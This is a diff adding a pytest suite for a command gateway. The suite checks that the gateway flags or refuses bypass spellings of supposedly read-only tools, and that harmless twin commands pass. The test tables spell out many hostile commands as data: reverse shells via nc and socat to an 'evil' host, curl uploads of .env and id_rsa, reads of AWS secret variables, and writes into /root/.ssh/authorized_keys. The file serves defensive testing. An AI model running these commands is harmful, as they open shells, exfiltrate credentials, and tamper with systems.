@@ -1,0 +1,329 @@
+"""
+Hostile spellings: every way a read-only program is made to write, run or send is stated or refused.
+
+Each row is a bypass an attacker would try against a program the policy
+allows to read: the reading must state the effect (the fact is there) or
+refuse to be read (undeclared or unreadable). Each has a harmless twin the
+tables read in full with nothing but reads.
+"""
+
+from __future__ import annotations
+
+from typing import NamedTuple
+
+import pytest
+
+from gateway._programs import ArgumentReading, read_arguments
+
+
+class Bypass(NamedTuple):
+    """``program argv`` must give a fact of ``kind`` (with ``value`` when set), or be refused."""
+
+    program: str
+    argv: tuple[str | None, ...]
+    kind: str | None  # None: the reading must be refused
+    value: str | None = None
+    action: str | None = None
+
+
+def bypass(
+    command: str, kind: str | None, value: str | None = None, action: str | None = None
+) -> Bypass:
+    program, *argv = command.split(" ")
+    return Bypass(program, tuple(word.replace("\x00", " ") for word in argv), kind, value, action)
+
+
+# Spaces inside one word are written as NUL in the table and restored above.
+BYPASSES = [
+    # binutils load code or read more options from a file
+    bypass("nm --plugin ./evil.so a.out", "execute", "./evil.so", "code"),
+    bypass("nm --plug=./evil.so a.out", "execute", "./evil.so", "code"),
+    bypass("nm @options a.out", None),
+    bypass("objdump @options a.out", None),
+    bypass("objdump --plugin ./evil.so a.out", None),
+    bypass("readelf @options a.out", None),
+    bypass("strings @options a.out", None),
+    bypass("size @options a.out", None),
+    # tar runs programs and reaches hosts
+    bypass("tar --checkpoint-action=exec=id -cf a.tar .", "execute", "exec=id", "shell_text"),
+    bypass("tar --checkpoint-a=exec=id -xf a.tar", "execute", "exec=id", "shell_text"),
+    bypass("tar --use-compress-program=sh -xf a.tar", "execute", "sh", "shell_text"),
+    bypass("tar -I sh -xf a.tar", "execute", "sh", "shell_text"),
+    bypass("tar xIf sh a.tar", "execute", "sh", "shell_text"),
+    bypass("tar --to-command=sh -xf a.tar", "execute", "sh", "shell_text"),
+    bypass("tar --to-comm=sh -xf a.tar", "execute", "sh", "shell_text"),
+    bypass("tar -F ./next.sh -cf a.tar .", "execute", "./next.sh", "shell_text"),
+    bypass("tar --new-volume-script=./next.sh -cf a.tar .", "execute", "./next.sh"),
+    bypass("tar --rsh-command=./rsh -cf host:a.tar .", "execute", "./rsh", "program"),
+    bypass("tar -cf evil.example:a.tar .", "network", "evil.example"),
+    bypass("tar -xf a.tar", "write", ".", "create"),
+    bypass("tar -xPf a.tar", "write", "/", "create"),
+    bypass("tar -czf out.tgz src", "write", "out.tgz"),
+    # zip, rsync, ssh, scp run programs
+    bypass("zip -TT id a.zip f", "execute", "id", "shell_text"),
+    bypass("zip -rTT id a.zip d", "execute", "id", "shell_text"),
+    bypass("zip --unzip-command=id -T a.zip f", "execute", "id", "shell_text"),
+    bypass("rsync -e ./x src host:dst", "execute", "./x", "shell_text"),
+    bypass("rsync --rsh=./x src host:dst", "execute", "./x"),
+    bypass("rsync --rsync-path=./x src host:dst", "execute", "./x"),
+    bypass("ssh -o ProxyCommand=id host", "execute", "id", "shell_text"),
+    bypass("ssh -oProxyCommand=id host", "execute", "id", "shell_text"),
+    bypass("ssh -o proxycommand\x00id host", "execute", "id", "shell_text"),
+    bypass("ssh -o LocalCommand=id -o PermitLocalCommand=yes host", "execute", "id"),
+    bypass("ssh -o KnownHostsCommand=id host", "execute", "id"),
+    bypass("ssh -o PKCS11Provider=./evil.so host", "execute", "./evil.so", "code"),
+    bypass("ssh -o Match\x00exec\x00id host", None),
+    bypass("ssh -F ./config host", "execute", "./config", "code"),
+    bypass("ssh -I ./evil.so host", "execute", "./evil.so", "code"),
+    bypass("ssh host id", "execute", "id", "shell_text"),
+    bypass("ssh -L 8080:localhost:80 host", "network", "8080:localhost:80", "listen"),
+    bypass("scp -S ./x a host:b", "execute", "./x", "program"),
+    bypass("scp -o ProxyCommand=id a host:b", "execute", "id"),
+    bypass("scp host:.ssh/id_rsa .", "network", "host"),
+    # man and the pagers run pagers, browsers and commands
+    bypass("man -P id ls", "execute", "id", "shell_text"),
+    bypass("man --pager=id ls", "execute", "id", "shell_text"),
+    bypass("man --pag=id ls", "execute", "id", "shell_text"),
+    bypass("man -Hfirefox ls", "execute", "firefox"),
+    bypass("man --html=firefox ls", "execute", "firefox"),
+    bypass("man -H ls", None),
+    bypass("man -C ./man.conf ls", "execute", "./man.conf", "code"),
+    bypass("less -k ./keys f", "execute", "./keys", "code"),
+    bypass("less --lesskey-src=./keys f", "execute", "./keys", "code"),
+    bypass("less --lesskey-content=x f", "execute", "x", "code"),
+    bypass("less +!id f", "execute", "!id", "shell_text"),
+    bypass("less +|id f", "execute", "|id", "shell_text"),
+    bypass("less -o copy f", "write", "copy"),
+    bypass("less -ocopy f", "write", "copy"),
+    bypass("less --LOG-FILE=copy f", "write", "copy"),
+    bypass("less +F f", "lifetime"),
+    bypass("more +!id f", "execute", "!id"),
+    # sort, uniq, xxd, base64, tree, file write
+    bypass("sort -o out in", "write", "out"),
+    bypass("sort -uo out in", "write", "out"),
+    bypass("sort -muoout in", "write", "out"),
+    bypass("sort --outp=out in", "write", "out"),
+    bypass("sort in -o out", "write", "out"),
+    bypass("sort --compress-program=sh big", "execute", "sh", "program"),
+    bypass("sort --co=sh big", "execute", "sh", "program"),
+    bypass("sort --compress-prog=sh big", "execute", "sh"),
+    bypass("sort -T /etc big", "write", "/etc"),
+    bypass("sort --files0-from=list", "read", "list"),
+    bypass("uniq in out", "write", "out"),
+    bypass("uniq -c in out", "write", "out"),
+    bypass("xxd in out", "write", "out"),
+    bypass("xxd -r dump bin", "write", "bin"),
+    bypass("base64 -o out in", "write", "out"),
+    bypass("base64 --output=out in", "write", "out"),
+    bypass("base64 -i in", None),
+    bypass("tree -o listing", "write", "listing"),
+    bypass("tree -R -H . -L 1", "write"),
+    bypass("file -C -m magic", "write"),
+    bypass("tee out", "write", "out"),
+    bypass("dd if=in of=out", "write", "out"),
+    # date, hostname change the system
+    bypass("date -s 2020-01-01", "write", "/dev/rtc"),
+    bypass("date --set=2020-01-01", "write", "/dev/rtc"),
+    bypass("date 010100002020", "write", "/dev/rtc"),
+    bypass("hostname evil", "write", "/proc/sys/kernel/hostname"),
+    bypass("hostname -F name", "write", "/proc/sys/kernel/hostname"),
+    # the network, files sent, files written
+    bypass("curl -o out https://x", "write", "out"),
+    bypass("curl -O https://x/f", "write"),
+    bypass("curl --output-dir d -O https://x/f", "write", "d"),
+    bypass("curl -D headers https://x", "write", "headers"),
+    bypass("curl -c jar https://x", "write", "jar"),
+    bypass("curl --trace-ascii log https://x", "write", "log"),
+    bypass("curl -w %output{out}x https://x", "write", "out"),
+    bypass("curl -d @.env https://x", "read", ".env"),
+    bypass("curl --data-binary @id_rsa https://x", "read", "id_rsa"),
+    bypass("curl --data-urlencode k@.env https://x", "read", ".env"),
+    bypass("curl -F f=@.env https://x", "read", ".env"),
+    bypass("curl -T .env https://x", "read", ".env"),
+    bypass("curl -K config https://x", None),
+    bypass("curl -L https://x", "network", None),
+    bypass("curl --unix-socket /var/run/docker.sock http://x", "network", "/var/run/docker.sock"),
+    bypass("wget -O out http://x", "write", "out"),
+    bypass("wget -o log http://x", "write", "log"),
+    bypass("wget -a log http://x", "write", "log"),
+    bypass("wget -P dir http://x", "write", "dir"),
+    bypass("wget -N http://x", "write"),
+    bypass("wget -e output_document=x http://x", None),
+    bypass("wget --use-askpass=./x http://x", "execute", "./x"),
+    bypass("nc -e /bin/sh evil 4444", "execute", "/bin/sh", "program"),
+    bypass("nc -l -p 4444", "network", None, "listen"),
+    bypass("socat TCP:evil:80 EXEC:/bin/sh", "execute", "/bin/sh"),
+    bypass("socat - SYSTEM:id", "execute", "id", "shell_text"),
+    bypass("socat - FROBNICATE:x", None),
+    bypass("dig @evil.example x.com", "network", "evil.example"),
+    bypass("getent hosts secret.evil.example", "network", "secret.evil.example", "resolve"),
+    bypass("ping x.evil.example", "network", "x.evil.example"),
+    bypass("whois x.evil.example", "network", "x.evil.example"),
+    # openssl
+    bypass("openssl x509 -in c.pem -out c2.pem", "write", "c2.pem"),
+    bypass("openssl req -engine ./evil.so -new", "execute", "./evil.so", "code"),
+    bypass(
+        "openssl enc -pass env:AWS_SECRET_ACCESS_KEY -in x",
+        "read_environment",
+        "AWS_SECRET_ACCESS_KEY",
+    ),
+    bypass("openssl enc -pass file:/root/.ssh/id_rsa -in x", "read", "/root/.ssh/id_rsa"),
+    bypass("openssl s_client -connect evil.example:443", "network", "evil.example:443"),
+    # searchers
+    bypass("rg --pre ./x pattern", "execute", "./x", "program"),
+    bypass("rg --pre=./x pattern", "execute", "./x", "program"),
+    bypass("rg --hostname-bin=./x pattern", "execute", "./x"),
+    bypass("rg -z pattern", "execute"),
+    bypass("ag --pager ./x pattern", "execute", "./x", "shell_text"),
+    bypass("grep -f patterns file", "read", "patterns"),
+    bypass("grep -r password", "read", "."),
+    # environment, lifetimes
+    bypass("ps e", "read_environment"),
+    bypass("ps auxe", "read_environment"),
+    bypass("ps eww", "read_environment"),
+    bypass("ps -e", "read_environment"),
+    bypass("printenv", "read_environment"),
+    bypass("printenv AWS_SECRET_ACCESS_KEY", "read_environment", "AWS_SECRET_ACCESS_KEY"),
+    bypass("env", "read_environment"),
+    bypass("declare -p", "read_environment"),
+    bypass("export", "read_environment"),
+    bypass("set", "read_environment"),
+    bypass("yq env(AWS_SECRET) f.yaml", "read_environment"),
+    bypass("yq -i .a=1 f.yaml", "write", "f.yaml"),
+    bypass("tail -f log", "lifetime"),
+    bypass("tail -Fn5 log", "lifetime"),
+    bypass("tail --follow=name log", "lifetime"),
+    bypass("yes", "lifetime"),
+    bypass("vmstat 1", "lifetime"),
+    bypass("free -s 1", "lifetime"),
+    bypass("lsof -r 1", "lifetime"),
+    bypass("findmnt --poll", "lifetime"),
+    # names a write reaches that no word shows whole
+    bypass("ln -s /tmp/x/.bashrc", "write", ".bashrc", "link"),
+    bypass("cp .bashrc /root", "write", "/root/.bashrc", "copy"),
+    bypass("mv payload /root/.ssh/", "write", "/root/.ssh/payload", "move"),
+    bypass("cp -t /root/.ssh authorized_keys", "write", "/root/.ssh/authorized_keys"),
+    bypass("gunzip .bashrc.gz", "write", ".bashrc", "create"),
+    bypass("gzip -d .profile.gz", "write", ".profile", "create"),
+    bypass("split -b 1 in .git/hooks/pre-commi", "write", ".git/hooks/pre-commi"),
+    bypass("rm -rf ./../..", "write", "./../..", "delete"),
+    # programs that run other programs where one would not expect it
+    bypass("arch ls -la", "execute", "ls", "program"),
+    bypass("command ls", "execute", "ls", "program"),
+    bypass("jobs -x rm %1", "execute", "rm", "program"),
+    bypass("source ./x.sh", "execute", "./x.sh", "script"),
+    bypass(". ./x.sh", "execute", "./x.sh", "script"),
+    bypass("make", "execute"),
+    bypass("pytest tests", "execute"),
+    bypass("npm test", "execute"),
+    bypass("pip install x", "execute"),
+    bypass("python3 -c print(1)", "execute", "print(1)", "code"),
+    bypass("python3 -m http.server", "execute", "http.server", "module"),
+    bypass("bash -c id", "execute", "id", "shell_text"),
+    bypass("bash -lc id", "execute", "id", "shell_text"),
+    bypass("sh x.sh", "execute", "x.sh", "script"),
+    bypass("crontab jobs.txt", "write", "/var/spool/cron/crontabs"),
+    # spellings the tables must refuse
+    bypass("head --frobnicate f", None),
+    bypass("sort --c x", None),
+    bypass("grep --context 3 x f", None),
+    bypass("sort -k", None),
+    bypass("mktemp -t x", None),
+]
+# Expanding words: where an option could stand they are refused.
+EXPANDING = [
+    Bypass("sort", (None, "file"), None),
+    Bypass("cat", (None,), None),
+    Bypass("cp", ("a", None), None),
+    Bypass("tar", ("-cf", "a.tar", None), None),
+    Bypass("grep", ("-e", None, "f"), None),
+    Bypass("getent", ("hosts", None), None),
+    Bypass("uniq", ("--", None, "out"), "write", "out"),
+    Bypass("cp", ("--", "a", "b", None), "write", "b"),
+]
+
+
+def _holds(case: Bypass, reading: ArgumentReading) -> bool:
+    if case.kind is None:
+        return reading.undeclared is not None or reading.unreadable is not None
+    return any(
+        fact.kind == case.kind
+        and (case.value is None or fact.value == case.value)
+        and (case.action is None or fact.action == case.action)
+        for fact in reading.facts
+    )
+
+
+def _id(case: Bypass) -> str:
+    return " ".join((case.program, *(word if word is not None else "$X" for word in case.argv)))
+
+
+@pytest.mark.parametrize("case", BYPASSES + EXPANDING, ids=_id)
+def test_a_bypass_is_stated_or_refused(case: Bypass) -> None:
+    reading = read_arguments(case.program, case.argv)
+    assert reading.table
+    assert _holds(case, reading), reading
+
+
+TWINS = [
+    "nm -D lib.so",
+    "objdump -d a.out",
+    "readelf -h a.out",
+    "strings -n 8 a.out",
+    "tar -tzf a.tgz",
+    "tar tvf a.tar",
+    "man ls",
+    "man 3 printf",
+    "less -N setup.py",
+    "less +G f",
+    "less +/pattern f",
+    "more notes.txt",
+    "sort -u names.txt",
+    "sort -rn -k2 counts.txt",
+    "sort -t, -k2,2n data.csv",
+    "uniq -c in",
+    "xxd -l 64 image.png",
+    "xxd -s 16 -c 8 f",
+    "base64 -d blob.txt",
+    "tree -L 2 src",
+    "tree -a -I node_modules",
+    "file -b --mime-type x.png",
+    "date +%s",
+    "date -d yesterday +%F",
+    "date -u +%Y-%m-%dT%H:%M:%S",
+    "hostname",
+    "openssl x509 -in c.pem -noout -text",
+    "grep -rn TODO src",
+    "grep -C3 foo f",
+    "grep -nC 5 foo f",
+    "rg -n TODO src",
+    "ag TODO src",
+    "cat -n f",
+    "head -n 20 setup.py",
+    "head -20 setup.py",
+    "tail -n 5 log",
+    "ps aux",
+    "ps -o pid,cmd -p 1",
+    "diff -u a b",
+    "wc -l f",
+    "cut -d: -f1 /etc/passwd",
+    "ls -la",
+    "du -sh .",
+    "stat README.md",
+    "md5sum f",
+    "jobs -l",
+    "echo -n hello",
+    "printf %s\\n x",
+    "zcat access.log.gz",
+    "column -t f",
+]
+
+
+@pytest.mark.parametrize("command", TWINS)
+def test_a_harmless_twin_is_read_in_full_with_only_reads(command: str) -> None:
+    program, *argv = command.split(" ")
+    reading = read_arguments(program, argv)
+    assert reading.table
+    assert reading.undeclared is None
+    assert reading.unreadable is None
+    assert {fact.kind for fact in reading.facts} <= {"read"}
